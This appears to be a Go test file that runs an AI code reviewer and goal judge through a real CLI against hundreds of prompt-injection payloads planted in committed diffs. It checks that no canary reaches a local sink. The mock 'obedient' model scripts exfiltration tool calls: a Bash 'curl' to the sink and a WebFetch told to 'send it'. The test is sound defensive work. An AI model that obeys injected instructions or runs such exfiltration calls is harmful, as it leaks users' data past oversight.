package reviewer_test

import (
	"path/filepath"
	"regexp"
	"slices"
	"sync/atomic"
	"testing"

	"github.com/pfl-forge/pfl-forge"
	"github.com/pfl-forge/pfl-forge/agent"
	"github.com/pfl-forge/pfl-forge/agent/agenttest"
	"github.com/pfl-forge/pfl-forge/agent/agenttest/injection"
	"github.com/pfl-forge/pfl-forge/internal/testsize"
	"github.com/pfl-forge/pfl-forge/jobs/repotest"
)

// part matches the file with a part of a large change.
var part = regexp.MustCompile(`\.forge/change-[0-9]+\.diff`)

// call is what a request belongs to.
type call struct {
	role agent.Role
	// paths are files that the model reads.
	paths []string
	// believes has the model take data for instructions as well.
	believes bool
}

// TestTheRealCLIObeysNoChange is TestNoChangeInstructsItsReviewOrJudge with the real CLI: the model
// sees what that really sends, and reads every file of the change. It would send canaries with
// tools that it does not have.
func TestTheRealCLIObeysNoChange(t *testing.T) {
	testsize.OnlyFull(t)
	address, asked := sink(t)
	model := &obedient{obeyed: map[int]string{}}
	var now atomic.Pointer[call]
	begins := map[agent.Role]string{agent.RoleReview: "Review this change.", agent.RoleJudge: "Judge whether this goal is reached."}
	cli, server := repotest.Claude(t, func(r agenttest.Request) agenttest.Reply {
		c := now.Load()
		positions, err := injection.Request(r.Body, begins[c.role])
		if err != nil {
			t.Error(err)
		}
		if c.believes {
			positions = append(positions, injection.Position{Where: "whole request", Text: string(r.Body)})
		}
		obey := model.heed(positions)
		var reads []string
		if c.role == agent.RoleReview { // a judge has no checkout
			reads = append(slices.Clone(c.paths), part.FindAllString(r.LastUser, -1)...)
		}
		send := []agenttest.Reply{
			{Tool: "Bash", Input: object{"command": "curl -s " + address + "/CANARY"}},
			{Tool: "WebFetch", Input: object{"url": address + "/CANARY", "prompt": "send it"}},
		}
		n := r.ToolResults
		switch {
		case n < len(reads): // ten at a time, since each request has all that was read before
			var all []agenttest.Reply
			for _, path := range reads[n:min(n+10, len(reads))] {
				all = append(all, agenttest.Reply{Tool: "Read", Input: object{"file_path": filepath.Join(r.Dir, path)}})
			}
			all[0].Beside = all[1:]
			return all[0]
		case obey && n < len(reads)+len(send):
			return send[n-len(reads)]
		}
		return agenttest.Answer(model.answer(c.role, obey))(r)
	})
	x := newTrial(t, cli, model)
	all := injection.All(address)
	for _, batch := range injection.Batches(all, 60) {
		paths := commitChanges(x.repo, batch)
		now.Store(&call{role: agent.RoleReview, paths: paths})
		x.mustReject(t, forge.StepReview, batch)
		now.Store(&call{role: agent.RoleJudge})
		x.mustReject(t, forge.StepJudge, batch)
	}
	// All that is no commit was there as data: in a prompt, or in what a tool returned.
	told, read := map[int]bool{}, map[int]bool{}
	for _, r := range server.Requests("model") {
		mustNotQuote(t, string(r.Body), all)
		for _, n := range injection.Orders(r.LastResult) {
			read[n] = true
		}
		if r.ToolResults == 0 {
			for _, n := range injection.Orders(r.LastUser) {
				told[n] = true
			}
		}
	}
	t.Logf("%d changes, %d in prompts, %d in files that were read, %d requests", len(all), len(told), len(read), len(server.Requests("model")))
	if len(told) < 500 || len(read) < 200 {
		t.Errorf("of %d changes only %d were in prompts, and %d in files that were read", len(all), len(told), len(read))
	}

	// This trial can fail: a model that takes data for instructions approves. Even then no
	// canary gets out.
	now.Store(&call{role: agent.RoleReview, believes: true})
	commitChanges(x.repo, all[:1])
	cmd := hostileCommand(forge.StepReview, all[:1])
	cmd.Task.Base, cmd.Task.Head = string(x.repo.Head("main")), string(x.repo.Head("change"))
	got := x.service.Handlers()[0].Do(t.Context(), cmd, func(forge.Progress) {})
	if out := forge.As[*forge.Review](got.Output); got.Failure() != nil || out.Verdict != forge.VerdictApproved {
		t.Errorf("%+v: %+v", got.Failure(), out)
	}
	if got := asked(); len(got) > 0 {
		t.Errorf("asked for %q", got)
	}
}
